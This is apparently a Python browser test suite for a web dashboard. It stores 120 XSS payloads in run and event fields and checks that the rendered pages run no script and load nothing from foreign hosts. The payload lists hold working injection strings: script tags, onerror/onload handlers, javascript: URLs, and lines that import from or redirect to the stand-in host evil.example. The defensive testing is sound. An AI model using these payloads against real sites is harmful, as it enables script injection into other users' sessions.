"""120 hostile texts in everything that is stored, looked at with a real browser: nothing runs, nothing is loaded."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Any
from urllib.parse import quote

import httpx2
import pytest

from tests.dashboard.browsing import Visitor

BREAKOUTS = (
    "",
    '">',
    "'>",
    "</pre></code>",
    "</title></head><body>",
    "</textarea></option></select>",
    "--></details>",
    "]]></script>",
    "</svg></time>",
    "\\u0022>\\u003c/script>",
)
ACTIONS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()><set onbegin=hit() /></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/y.css>",
    "<form action=//evil.example><button formaction=javascript:hit()>ok</button></form>",
    "<div hx-get=//evil.example hx-trigger=load hx-on::load=hit()>x</div>",
    "<a href=javascript:hit() autofocus onfocus=hit()>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "' onmouseover=hit() style=position:fixed;inset:0 x='",
    '" autofocus onfocus=hit() hx-trigger="load" hx-get="//evil.example" x="',
)
PAYLOADS = tuple(before + action for before, action in product(BREAKOUTS, ACTIONS))
WATCH = """
window.hits = [];
window.hit = () => window.hits.push("a script ran");
document.addEventListener("securitypolicyviolation", event => window.hits.push(`${event.violatedDirective} ${event.sample}`));
"""


@pytest.fixture
def watched(chromium: Any, browsed: httpx2.Client) -> Iterator[Visitor]:
    context = chromium.new_context(viewport={"width": 1400, "height": 900})
    context.add_init_script(WATCH)
    visitor = Visitor(context.new_page(), browsed)
    yield visitor
    context.close()
    assert visitor.complaints == []
    assert all(url.startswith(str(browsed.base_url).rstrip("/")) for url in visitor.requests), visitor.requests


def _stored(visitor: Visitor, number: int, payload: str) -> str:
    """Store a payload in one of the ways, and return the page that shows it."""
    match number % 4:
        case 0:
            run_id = visitor.start("echo", text=payload)
            return f"/runs/{run_id}"
        case 1:
            run_id = visitor.start("fail", text=payload)
            return f"/runs/{run_id}"
        case 2:
            run_id = visitor.start("await_payment", stay=payload)
            visitor.http.post(f"/v1/runs/{run_id}/cancel", json={"reason": payload})
            return f"/runs/{run_id}"
    event = {"name": payload, "data": {payload: [payload]}, "id": payload}
    sent = visitor.http.post("/v1/events", json=event)
    return f"/events/{sent.json()['events'][0]['id']}"


def _untouched(visitor: Visitor, path: str) -> None:
    visitor.go(path)
    assert visitor.page.evaluate("window.hits") == [], path
    assert visitor.page.evaluate("document.querySelectorAll('iframe, base, [onerror], [onload], [onfocus]').length") == 0, path


pytestmark = [pytest.mark.ci, pytest.mark.browser]


def test_the_watch_sees_what_the_browser_refuses(chromium: Any, browsed: httpx2.Client) -> None:
    context = chromium.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(f"{str(browsed.base_url).rstrip('/')}/")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hit()>')")
    page.wait_for_function("window.hits.length > 0")
    context.close()


def test_120_hostile_texts_do_nothing_in_a_browser(watched: Visitor) -> None:
    assert len(set(PAYLOADS)) == 120
    pages = [_stored(watched, number, payload) for number, payload in enumerate(PAYLOADS)]
    for number, (path, payload) in enumerate(zip(pages, PAYLOADS, strict=True)):
        _untouched(watched, path)
        watched.until(lambda payload=payload: _shows(watched, payload))
        if number % 12 == 0:
            _untouched(watched, f"/search?q={quote(payload, safe='')}")
    for path in ("/", "/runs", "/runs?status=failed", "/events"):
        _untouched(watched, path)


def _shows(visitor: Visitor, payload: str) -> bool:
    text: str = visitor.page.evaluate("document.body.textContent")
    return payload in text.replace('\\"', '"').replace("\\\\", "\\")
